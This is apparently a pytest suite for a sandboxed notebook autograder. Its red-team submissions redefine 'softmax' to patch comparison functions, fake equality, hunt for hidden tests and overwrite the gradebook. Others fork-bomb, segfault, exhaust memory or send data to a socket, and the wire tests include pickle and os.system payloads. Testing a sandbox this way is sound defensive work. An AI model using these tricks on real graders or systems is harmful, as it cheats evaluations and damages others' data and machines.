"""The grading engine: the trust boundary, robustness, idempotence and the red team.

A course with the 02-activations chapter is graded with the sandboxed engine. Alongside an
honest correct submission and an untouched one sit hostile submissions: each redefines
`softmax` with an attack (or breaks the notebook). Every attack must leave the attacker's
`softmax` score at most what a wrong answer gets, keep the attacker's honest functions'
points, and leave the honest students' grades and the gradebook intact.
"""
from __future__ import annotations

import json
import shutil
import socket
import sqlite3
import sys
import threading
from pathlib import Path

import numpy as np
import pytest

from autograder.engine import registry, wire
from autograder.engine.jobs import load_state
from autograder.engine.scheduler import grade_class

REPO = Path(__file__).resolve().parents[1]
CH = "02-activations"
pytestmark = pytest.mark.slow

# --------------------------------------------------------------------------- the wire


def test_wire_round_trips_data():
    value = {"a": np.arange(6.0).reshape(2, 3), "b": (1, 2.5, float("nan"), None, True),
             "c": [np.float32(3), "text", {"d": np.array([True, False])}]}
    back = wire.decode(wire.encode(value))
    np.testing.assert_array_equal(back["a"], value["a"])
    assert back["b"][:2] == (1, 2.5) and np.isnan(back["b"][2]) and back["b"][3:] == (None, True)
    assert back["c"][0] == np.float32(3) and back["c"][2]["d"].dtype == bool


@pytest.mark.parametrize("payload", [
    b"\x80\x04\x95cos\nsystem\n",                                  # a pickle
    b'{"__array__": {"dtype": "O", "shape": [1], "b64": ""}}',    # object array
    b'{"__array__": {"dtype": "<f8", "shape": [1000], "b64": "AAAA"}}',  # size mismatch
    b'{"__callable__": "os.system"}',                               # callables from student
    b'{"__source__": "__import__(\'os\').system(\'true\')"}',       # code from student
    b'{"__weird__": 1}',
    b"[" * 100 + b"]" * 100,                                        # too deep
])
def test_wire_rejects_anything_but_data_from_the_student(payload):
    with pytest.raises(wire.WireError):
        wire.decode(payload)


def test_wire_refuses_to_send_arbitrary_objects():
    with pytest.raises(wire.WireError):
        wire.encode(object())


# --------------------------------------------------------------------------- red team

def _solution_nb():
    return json.loads((REPO / "solutions" / CH / f"{CH}.ipynb").read_text())


def _with_cell(source: str, nb=None, before="test_softmax"):
    """The notebook with a new code cell just before the hidden-test cell `before` (where a
    student's answer would stand), or at the end when `before` is None."""
    nb = nb or _solution_nb()
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": source}
    ids = [c.get("metadata", {}).get("nbgrader", {}).get("grade_id") for c in nb["cells"]]
    nb["cells"].insert(ids.index(before) if before is not None and before in ids
                     else len(nb["cells"]), cell)
    return nb


ATTACKS = {
    "patch_numpy_comparisons": """
import numpy as np, numpy.testing, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
def softmax(z, axis=-1):
    return np.zeros_like(z)
""",
    "always_equal_object": """
class AlwaysEqual:
    def __eq__(self, other): return True
    def __array__(self, *a, **k): raise TypeError
def softmax(z, axis=-1):
    return AlwaysEqual()
""",
    "lying_array_subclass": """
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __sub__(self, other): return np.zeros(np.shape(other))
    def __rsub__(self, other): return np.zeros(np.shape(other))
def softmax(z, axis=-1):
    return np.zeros(np.shape(z)).view(Liar)
""",
    "replace_modules": """
import sys, types
fake = types.ModuleType("numpy"); fake.allclose = lambda *a, **k: True
sys.modules["numpy"] = fake
sys.modules["autograder"] = fake
def softmax(z, axis=-1):
    return [[0.0]]
""",
    "search_disk_for_tests": """
import os
def softmax(z, axis=-1):
    found = []
    markers = (b'Suite("02-activations")', b"Reference implementations for chapter 02",
               b"SQLite format 3")
    for top in ("/", "ROOT"):
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.startswith(("/proc", "/sys", "/usr", "/lib")) or "site-packages" in dirpath \
                    or "/.venv" in dirpath or "pyenv" in dirpath:
                dirnames[:] = []
                continue
            for f in filenames:
                path = os.path.join(dirpath, f)
                try:
                    if os.path.getsize(path) < 2_000_000:
                        with open(path, "rb") as fh:
                            if any(m in fh.read() for m in markers):
                                found.append(path)
                except OSError:
                    pass
    if found:
        raise RuntimeError("FOUND " + " ".join(found[:5]))
    return z * 0
""",
    "search_memory_for_tests": """
import gc, sys
def softmax(z, axis=-1):
    mods = [m for m in sys.modules if m.startswith("autograder._chapters") or m.startswith("nnbio_bank")]
    hits = [o for o in gc.get_objects() if isinstance(o, dict) and "SUITE" in o]
    if mods or hits:
        raise RuntimeError("FOUND " + " ".join(mods[:5]) + str(len(hits)))
    return z * 0
""",
    "write_gradebook_and_others": """
def softmax(z, axis=-1):
    return z * 0
import os
written = []
for t in ("ROOT/gradebook.db", "ROOT/submitted/honest/02-activations/02-activations.ipynb",
          "/work/main/autograder/02-activations/reference.py"):
    try:
        with open(t, "w") as fh:
            fh.write("hacked")
        written.append(t)
    except OSError:
        pass
""",
    "os_exit": """
import os
def softmax(z, axis=-1):
    os._exit(0)
""",
    "segfault": """
import ctypes
def softmax(z, axis=-1):
    ctypes.string_at(0)
""",
    "infinite_loop": """
def softmax(z, axis=-1):
    while True:
        pass
""",
    "memory_bomb": """
import numpy as np
def softmax(z, axis=-1):
    hog = [np.ones(10**8) for _ in range(1000)]
    return hog[0]
""",
    "fork_bomb": """
import os
def softmax(z, axis=-1):
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            break
    return z * 0
""",
    "gigabyte_of_output": """
import sys
def softmax(z, axis=-1):
    chunk = "x" * (1 << 20)
    for _ in range(1024):
        sys.stdout.write(chunk)
    return z * 0
""",
    "network_access": """
import socket
def softmax(z, axis=-1):
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"leak")
    return z * 0
""",
    "top_level_crash_in_last_cell": """
import os
os._exit(1)
""",
    "top_level_infinite_loop": """
while True:
    pass
""",
}


@pytest.fixture(scope="module")
def red_course(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam")
    shutil.copy(REPO / "nbgrader_config.py", root)
    shutil.copytree(REPO / "solutions" / CH, root / "solutions" / CH)
    # a listening socket on this machine's loopback: the sandbox must not reach it
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.5)
    hits, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                hits.append(conn.recv(10))
            except socket.timeout:
                continue
            except OSError:
                return

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    port = server.getsockname()[1]

    def submit(student, nb=None, files=None, raw=None):
        d = root / "submitted" / student / CH
        d.mkdir(parents=True)
        path = d / f"{CH}.ipynb"
        path.write_text(raw if raw is not None else json.dumps(nb))
        for name, text in (files or {}).items():
            (d / name).write_text(text)

    submit("honest", _solution_nb())
    blank = json.loads((REPO / "exercises" / CH / f"{CH}.ipynb").read_text())
    submit("blank", blank)
    for name, code in ATTACKS.items():
        code = code.replace("PORT", str(port)).replace("ROOT", str(root))
        submit(f"attack_{name}", _with_cell(code, before=None if name.startswith("top_level") else "test_softmax"))
    submit("ships_numpy_and_sitecustomize", _solution_nb(), files={
        "numpy.py": "allclose = lambda *a, **k: True\n",
        "sitecustomize.py": "import builtins; builtins.HACKED = True\n"})
    submit("broken_json", raw="{not json")
    submit("not_a_notebook", raw=json.dumps({"hello": "world"}))
    deleted = _solution_nb()
    deleted["cells"] = [c for c in deleted["cells"]
                        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "softmax"]
    submit("deleted_softmax_cell", deleted)
    retyped = _solution_nb()
    for c in retyped["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax":
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    submit("retyped_softmax_cell", retyped)
    renamed = _solution_nb()
    for c in renamed["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax":
            c["source"] = c["source"].replace("def softmax(", "def soft_max(") if isinstance(
                c["source"], str) else [s.replace("def softmax(", "def soft_max(") for s in c["source"]]
    submit("renamed_softmax", renamed)
    # a function that kills the process, called by more top-level cells than max_bad_cells
    everywhere = _with_cell("import os\ndef softmax(z, axis=-1):\n    os._exit(3)\n")
    for _ in range(7):
        everywhere = _with_cell("p = softmax(np.array([1.0, 2.0]))\nprint(p)", nb=everywhere,
                                before=None)
    submit("crashing_softmax_called_everywhere", everywhere)
    d = root / "submitted" / "missing_notebook" / CH
    d.mkdir(parents=True)
    (d / "notes.txt").write_text("forgot it")

    limits = {"call_seconds": 10, "cell_seconds": 15, "notebook_seconds": 40, "memory_mb": 2048}
    summary = grade_class(root, [CH], workers=2, progress=False, limits=limits)
    stop.set()
    thread.join(2)
    server.close()
    return {"root": root, "summary": summary, "hits": hits, "limits": limits}


def _state(course, student):
    return load_state(course["root"], student, CH)


def _points(state):
    return {f["function"]: (f["points"], f["max_points"]) for f in state.functions}


def test_honest_submission_gets_full_marks(red_course):
    pts = _points(_state(red_course, "honest"))
    assert all(p == m for p, m in pts.values()), pts
    assert _state(red_course, "honest").isolation == "full"


def test_blank_submission_gets_zero(red_course):
    assert all(p == 0 for p, _ in _points(_state(red_course, "blank")).values())


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_earns_nothing_for_softmax_and_costs_nothing_else(red_course, attack):
    state = _state(red_course, f"attack_{attack}")
    assert state.status == "graded", state
    pts = _points(state)
    if attack.startswith("top_level"):
        # the notebook's own (correct) softmax stands: the bad cell is skipped, nothing lost
        assert any("skipped" in n for n in state.notes), state.notes
        assert all(p == m for p, m in pts.values()), pts
        return
    ref_bad = registry.suite(CH).max_points("softmax")
    assert pts["softmax"][0] < ref_bad, (attack, pts["softmax"])
    for fn, (p, m) in pts.items():
        if fn != "softmax":
            assert p == m, f"{attack} cost points on {fn}: {state}"


def test_attacks_give_reasons(red_course):
    def report(attack):
        st = _state(red_course, f"attack_{attack}")
        return next(f["report"] for f in st.functions if f["function"] == "softmax")
    assert "time limit" in report("infinite_loop")
    assert "segmentation fault" in report("segfault")
    assert "exit" in report("os_exit")
    assert "MemoryError" in report("memory_bomb") or "memory" in report("memory_bomb")
    assert "FOUND" not in report("search_disk_for_tests")
    assert "FOUND" not in report("search_memory_for_tests")


def test_a_hanging_function_costs_one_call_limit_not_one_per_test(red_course):
    st = _state(red_course, "attack_infinite_loop")
    rep = next(f["report"] for f in st.functions if f["function"] == "softmax")
    assert "not run again: it ran out of time" in rep, rep  # later softmax tests skipped
    # one fresh process after the hung call, plus one per top-level cell that calls softmax
    # (each hangs once, costs the cell limit and is skipped)
    skipped = [n for n in st.notes if "skipped" in n]
    assert st.restarts == 1 + len(skipped), st


def test_a_hanging_top_level_cell_costs_the_cell_limit(red_course):
    st = _state(red_course, "attack_top_level_infinite_loop")
    assert any("15 s per cell" in n and "skipped" in n for n in st.notes), st.notes


def test_definitions_only_keeps_imports_definitions_and_constants():
    from autograder.engine.remote import definitions_only

    kept = definitions_only("%matplotlib inline\nimport numpy as np\nK = 3\n"
                            "x = softmax(np.ones(K))\ndef f(a):\n    return a\nprint(f(1))\n"
                            "class A:\n    pass\n")
    assert kept == "import numpy as np\nK = 3\n\ndef f(a):\n    return a\n\nclass A:\n    pass"
    assert definitions_only("print(1)") is None and definitions_only("x = (") is None


def test_a_function_that_breaks_every_cell_costs_only_its_own_tests(red_course):
    st = _state(red_course, "crashing_softmax_called_everywhere")
    honest = _points(_state(red_course, "honest"))
    points = _points(st)
    assert points["softmax"][0] == 0, st
    assert {k: v for k, v in points.items() if k != "softmax"} == {
        k: v for k, v in honest.items() if k != "softmax"}, (points, honest)
    assert any("only its imports, definitions and constants" in n for n in st.notes), st.notes


def test_limits_from_the_command_line_are_checked():
    from autograder.engine.cli import parse_limits

    assert parse_limits(["call_seconds=20", "max_starts=3"]) == {"call_seconds": 20.0,
                                                                  "max_starts": 3}
    for bad in (["no_such_limit=1"], ["call_seconds=soon"], ["call_seconds"], ["memory_mb=0"]):
        with pytest.raises(ValueError):
            parse_limits(bad)


def test_sandbox_reached_no_server(red_course):
    assert red_course["hits"] == []
    st = _state(red_course, "attack_network_access")
    rep = next(f["report"] for f in st.functions if f["function"] == "softmax")
    assert "raised" in rep and ("unreachable" in rep or "Error" in rep)


def test_shipped_numpy_and_sitecustomize_change_nothing(red_course):
    pts = _points(_state(red_course, "ships_numpy_and_sitecustomize"))
    assert all(p == m for p, m in pts.values()), pts


@pytest.mark.parametrize("student,reason", [
    ("broken_json", "not valid JSON"), ("not_a_notebook", "not a Jupyter notebook"),
    ("missing_notebook", "missing notebook")])
def test_broken_submissions_are_ungradable_with_a_reason(red_course, student, reason):
    state = _state(red_course, student)
    assert state.status == "ungradable" and reason in state.reason


@pytest.mark.parametrize("student", ["deleted_softmax_cell", "retyped_softmax_cell",
                                     "renamed_softmax"])
def test_changed_cells_cost_only_that_function(red_course, student):
    state = _state(red_course, student)
    pts = _points(state)
    assert pts["softmax"][0] == 0 and "not defined" in next(
        f["error"] for f in state.functions if f["function"] == "softmax")
    assert all(p == m for fn, (p, m) in pts.items() if fn != "softmax")
    if student != "renamed_softmax":
        assert any("softmax" in n for n in state.notes), state.notes


def test_gradebook_and_other_submissions_untouched(red_course):
    root = red_course["root"]
    nb = json.loads((root / "submitted" / "honest" / CH / f"{CH}.ipynb").read_text())
    assert nb["cells"]
    con = sqlite3.connect(root / "gradebook.db")
    n = con.execute("select count(*) from submitted_assignment").fetchone()[0]
    con.close()
    assert n == len(list((root / "submitted").iterdir()))  # every submission, ungradable ones too
    assert (REPO / "autograder" / CH / "reference.py").read_text().startswith('"""Reference')


def test_regrading_is_idempotent(red_course):
    root = red_course["root"]
    before = (root / "gradebook.db").stat().st_size
    summary = grade_class(root, [CH], workers=2, progress=False, limits=red_course["limits"])
    assert summary["graded_now"] == 0 and summary["reused"] == summary["submissions"]
    con = sqlite3.connect(root / "gradebook.db")
    dupes = con.execute("select count(*) from (select student_id, assignment_id, count(*) c "
                        "from submitted_assignment group by 1, 2 having c > 1)").fetchone()[0]
    con.close()
    assert dupes == 0
    assert (root / "gradebook.db").stat().st_size == before


def test_a_changed_submission_is_graded_again(red_course):
    root = red_course["root"]
    path = root / "submitted" / "blank" / CH / f"{CH}.ipynb"
    path.write_text(json.dumps(_solution_nb()))
    summary = grade_class(root, [CH], workers=1, progress=False, limits=red_course["limits"])
    assert summary["graded_now"] == 1
    assert all(p == m for p, m in _points(_state(red_course, "blank")).values())


def _descendants(pid: int) -> set[int]:
    found, todo = set(), [pid]
    while todo:
        p = todo.pop()
        for task in Path(f"/proc/{p}/task").glob("*"):
            try:
                kids = [int(k) for k in (task / "children").read_text().split()]
            except OSError:
                continue
            todo.extend(k for k in kids if k not in found)
            found.update(kids)
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state != "Z"


def test_killing_the_grading_command_leaves_no_process_behind(tmp_path):
    """SIGKILL (or the OOM killer) on the instructor's command must not leave pool workers
    or sandboxes running: they die with their parent."""
    import os
    import signal
    import subprocess
    import time

    shutil.copy(REPO / "nbgrader_config.py", tmp_path)
    shutil.copytree(REPO / "solutions" / CH, tmp_path / "solutions" / CH)
    import tempfile

    tmp = Path(tempfile.mkdtemp(prefix="nnbio-t-", dir="/tmp"))  # short: a socket lives below
    env = dict(os.environ, TMPDIR=str(tmp))
    for student in ("a", "b"):
        d = tmp_path / "submitted" / student / CH
        d.mkdir(parents=True)
        (d / f"{CH}.ipynb").write_text(json.dumps(_with_cell("while True:\n    pass\n", before=None)))
    proc = subprocess.Popen([sys.executable, "-m", "autograder.engine.cli", "--root", str(tmp_path),
                             "autograde", CH, "--workers", "2", "--no-progress"],
                            cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            env=env)
    try:
        deadline, children = time.monotonic() + 120, set()
        while time.monotonic() < deadline:  # wait until sandboxes run the hanging cell
            children = _descendants(proc.pid)
            if len(children) >= 6:  # 2 workers (+ their forkservers and sandboxes)
                break
            time.sleep(0.5)
        assert children, "the grading command started no worker"
        time.sleep(2)
        children = _descendants(proc.pid)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and any(_alive(p) for p in children):
        time.sleep(0.5)
    left = [p for p in children if _alive(p)]
    for p in left:
        os.kill(p, signal.SIGKILL)
    assert not left, f"processes left running after the grader was killed: {left}"
    # the next run removes what the killed one could not clean up, and leaves nothing itself
    subprocess.run([sys.executable, "-m", "autograder.engine.cli", "--root", str(tmp_path), "autograde",
                    CH, "--workers", "1", "--no-progress", "--limit", "cell_seconds=2",
                    "--limit", "notebook_seconds=5"], cwd=REPO, env=env, timeout=600,
                   capture_output=True)
    left = sorted(p.name for p in tmp.iterdir())
    shutil.rmtree(tmp, ignore_errors=True)
    assert left == []
